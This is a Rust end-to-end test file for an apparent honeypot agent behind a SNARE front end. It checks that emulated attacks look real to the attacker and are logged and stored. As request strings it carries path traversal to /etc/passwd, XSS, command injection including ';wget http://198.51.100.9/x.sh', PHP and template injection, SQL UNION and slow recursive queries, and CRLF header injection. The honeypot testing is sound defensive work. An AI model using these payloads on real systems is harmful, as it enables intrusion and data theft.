//! End to end: an attacker's requests through a SNARE front end (which serves Tanner's answers
//! exactly as SNARE does, `snare_frontend`) to the flowmon binary, and what the attacker
//! receives: emulated results in pages and as text, injected headers, statuses, hidden links;
//! a session's writes seen by it alone; a runaway query cut and counted; the event log and the
//! stored analyses carrying what was emulated.

use std::{
    collections::HashSet,
    time::{Duration, Instant},
};

use flowmon_tests::wait::{wait_for, wait_until};
use flowmon_tests::{
    agent::metric,
    process::TempDir,
    redis_server::RedisServer,
    snare_agent::SnareAgent,
    snare_frontend::{FakeSnare, SENSOR, shop},
};
use serde_json::Value;

const ID_LINE: &str = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
/// md5("flowmon")
const FLOWMON_MD5: &str = "a4e1b6b2603987a83a8056b70842eee5";

/// A client that keeps SNARE's session cookie, as a browser or a scanner does.
struct Attacker {
    client: reqwest::blocking::Client,
    user_agent: &'static str,
    cookie: Option<String>,
}

struct Received {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Received {
    fn header(&self, name: &str) -> Vec<&str> {
        self.headers
            .iter()
            .filter(|(found, _)| found.eq_ignore_ascii_case(name))
            .map(|(_, value)| value.as_str())
            .collect()
    }
}

impl Attacker {
    fn new(user_agent: &'static str) -> Self {
        Self {
            client: reqwest::blocking::Client::builder()
                .timeout(Duration::from_secs(20))
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            user_agent,
            cookie: None,
        }
    }

    fn get(&mut self, snare: &FakeSnare, path: &str) -> Received {
        let mut request = self
            .client
            .get(snare.url(path))
            .header("User-Agent", self.user_agent);
        if let Some(cookie) = &self.cookie {
            request = request.header("Cookie", format!("sess_uuid={cookie}"));
        }
        let response = request.send().unwrap();
        let status = response.status().as_u16();
        let headers: Vec<(String, String)> = response
            .headers()
            .iter()
            .map(|(name, value)| (name.to_string(), value.to_str().unwrap_or("").to_owned()))
            .collect();
        for (name, value) in &headers {
            if let Some(id) = value.strip_prefix("sess_uuid=")
                && name == "set-cookie"
            {
                self.cookie = Some(id.to_owned());
            }
        }
        Received {
            status,
            headers,
            body: response.text().unwrap(),
        }
    }
}

/// The cloned page at `path` with `element` appended to its body.
fn page_with(path: &str, element: &str) -> String {
    let (content, _) = shop()[path].clone();
    content.replace("</body>", &format!("{element}</body>"))
}

#[test]
fn the_attacker_sees_each_attack_work() {
    let logs = TempDir::new("emulation-snare");
    let log = logs.path().join("events.jsonl");
    let mut agent = SnareAgent::start(&["--no-redis", "--event-log", log.to_str().unwrap()]);
    let snare = FakeSnare::start(agent.addr, shop());
    let mut attacker = Attacker::new("Mozilla/5.0 (scanner)");

    // A plain page carries a hidden link from /dorks (SNARE with dorks enabled).
    let index = attacker.get(&snare, "/index.html");
    assert_eq!(
        (index.status, index.header("content-type")),
        (200, vec!["text/html"])
    );
    let shipped: HashSet<&str> = flowmon::snare::dorks::shipped().collect();
    let link = index
        .body
        .split("<a href=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("a hidden link");
    assert!(shipped.contains(link), "{link}");
    assert!(index.body.starts_with("<html><head><title>Shop</title>"));

    // lfi: the file alone, as text.
    let passwd = attacker.get(&snare, "/page.php?file=../../../../etc/passwd");
    assert_eq!(
        (passwd.status, passwd.header("content-type")),
        (200, vec!["text/plain"])
    );
    assert!(
        passwd.body.starts_with("root:x:0:0:root:/root:/bin/bash\n"),
        "{}",
        passwd.body
    );

    // xss: reflected into the latest HTML page the session asked for.
    let xss = attacker.get(&snare, "/about.html?q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(xss.status, 200);
    assert_eq!(
        xss.body,
        page_with("/about.html", "<div><script>alert(1)</script></div>")
    );

    // cmd_exec, php in tags, a template, a UNION: each in that page.
    for (path, value) in [
        ("/ping.php?host=%3Bid", ID_LINE.to_owned()),
        (
            "/index.php?q=%3C%3Fphp%20echo%20md5(%22flowmon%22)%3B%20%3F%3E",
            FLOWMON_MD5.to_owned(),
        ),
        ("/render?name=%7B%7B7*7%7D%7D", "49".to_owned()),
        (
            "/item.php?id=-1%20UNION%20SELECT%201337,2,3,4",
            "[1337, 2, 3, 4]".to_owned(),
        ),
    ] {
        let received = attacker.get(&snare, path);
        assert_eq!(received.status, 200, "{path}");
        assert_eq!(
            received.body,
            page_with("/about.html", &format!("<div>{value}</div>")),
            "{path}"
        );
    }

    // crlf: the injected header arrives as a header.
    let crlf = attacker.get(&snare, "/go?next=%0D%0ASet-Cookie:%20injected=1");
    assert_eq!(crlf.status, 200);
    assert!(
        crlf.header("set-cookie").contains(&"injected=1"),
        "{:?}",
        crlf.headers
    );

    // A template that does not render: the application's 500, no body.
    let broken = attacker.get(&snare, "/render?name=%7B%7B7*%7D%7D");
    assert_eq!((broken.status, broken.body.as_str()), (500, ""));

    // A session's writes are its own.
    attacker.get(&snare, "/ping.php?host=%3Becho%20flowmon%20%3E%20/tmp/x");
    let mine = attacker.get(&snare, "/ping.php?host=%3Bcat%20/tmp/x");
    assert_eq!(mine.body, page_with("/about.html", "<div>flowmon\n</div>"));
    let mut other = Attacker::new("curl/8.0");
    let theirs = other.get(&snare, "/ping.php?host=%3Bcat%20/tmp/x");
    // Nothing on the other's standard output; no HTML page asked yet: Tanner's default page.
    assert_eq!(theirs.body, page_with("/index.html", "<div></div>"));

    // A query that would run for seconds is cut at the deadline: the plain answer (type 1,
    // here a 404 for a path the site lacks), quickly, and counted.
    let started = Instant::now();
    let cut = attacker.get(
        &snare,
        "/item.php?id=1%20UNION%20SELECT%20x,1,1,1%20FROM%20(WITH%20RECURSIVE%20c(x)%20AS%20\
         (SELECT%201%20UNION%20ALL%20SELECT%20x-(-1)%20FROM%20c)%20SELECT%20x%20FROM%20c%20\
         ORDER%20BY%20x%20DESC%20LIMIT%201)",
    );
    assert_eq!(cut.status, 404);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    let metrics = reqwest::blocking::get(format!("http://{}/metrics", agent.metrics))
        .unwrap()
        .text()
        .unwrap();
    assert_eq!(
        metric(&metrics, "flowmon_emulation_failures_total{type=\"sqli\"}"),
        1.0
    );
    assert_eq!(
        metric(
            &metrics,
            "flowmon_emulation_failures_total{type=\"cmd_exec\"}"
        ),
        0.0
    );

    // The event log carries each answer's payload, as Tanner's did.
    agent.stop();
    let log = std::fs::read_to_string(&log).unwrap();
    let lines: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let lfi = lines
        .iter()
        .find(|line| line["path"].as_str().unwrap().contains("etc/passwd"))
        .unwrap();
    let detection = &lfi["response_msg"]["response"]["message"]["detection"];
    assert_eq!(detection["type"], 2);
    assert_eq!(detection["payload"]["page"], false);
    assert!(
        detection["payload"]["value"]
            .as_str()
            .unwrap()
            .starts_with("root:x:0:0:")
    );
    let cut = lines.last().unwrap();
    assert_eq!(
        cut["response_msg"]["response"]["message"]["detection"],
        serde_json::json!({"name": "sqli", "order": 2, "type": 1, "version": "0.6.0"})
    );
}

#[test]
fn sessions_store_their_evidence_and_dorks_reach_redis() {
    let redis = RedisServer::start();
    let mut agent = SnareAgent::start(&["--redis-url", &redis.url(), "--session-timeout", "1"]);
    let snare = FakeSnare::start(agent.addr, shop());
    let mut attacker = Attacker::new("Mozilla/5.0 (scanner)");
    attacker.get(&snare, "/index.html");
    attacker.get(&snare, "/ping.php?host=%3Bid");
    attacker.get(&snare, "/page.php?file=/etc/hostname");
    attacker.get(&snare, "/item.php?id=2%20UNION%20SELECT%201,2,3,4");
    attacker.get(&snare, "/ping.php?host=%3Bwget%20http://198.51.100.9/x.sh");

    let stored = wait_for(Duration::from_secs(20), "the session stored", || {
        let members = redis.cli(&["ZRANGE", SENSOR, "0", "-1"]);
        let member = members.lines().find(|line| line.starts_with('{'))?;
        Some(serde_json::from_str::<Value>(member).unwrap())
    });
    let emulation = &stored["emulation"];
    assert_eq!(
        emulation["commands"][0],
        serde_json::json!({"input": ";id", "output": ID_LINE})
    );
    assert_eq!(
        emulation["commands"][1]["input"],
        ";wget http://198.51.100.9/x.sh"
    );
    assert_eq!(
        emulation["files_read"],
        serde_json::json!(["/etc/hostname"])
    );
    assert_eq!(
        emulation["sql"][0]["input"],
        "SELECT * from users WHERE id=2 UNION SELECT 1,2,3,4;"
    );
    let rows = emulation["sql"][0]["output"].as_str().unwrap();
    assert!(rows.starts_with("[1, 2, 3, 4] [2, '"), "{rows}");
    assert_eq!(
        emulation["urls"],
        serde_json::json!(["http://198.51.100.9/x.sh"])
    );
    // Tanner's readers see their keys as before.
    assert_eq!(stored["attack_types"][1], "cmd_exec");

    // The shipped dorks seeded Tanner's set; the user dorks were learned.
    let shipped = flowmon::snare::dorks::shipped().count();
    wait_until(Duration::from_secs(10), "the dorks set seeded", || {
        redis
            .cli(&["SCARD", flowmon::snare::dorks::DORKS_KEY])
            .trim()
            .parse::<usize>()
            .is_ok_and(|seeded| seeded >= shipped)
    });
    let user: HashSet<String> = redis
        .cli(&["SMEMBERS", flowmon::snare::dorks::USER_DORKS_KEY])
        .lines()
        .map(str::to_owned)
        .collect();
    for dork in ["/ping.php?host=", "/page.php?file=", "/item.php?id="] {
        assert!(user.contains(dork), "{dork} not in {user:?}");
    }
    agent.stop();
}
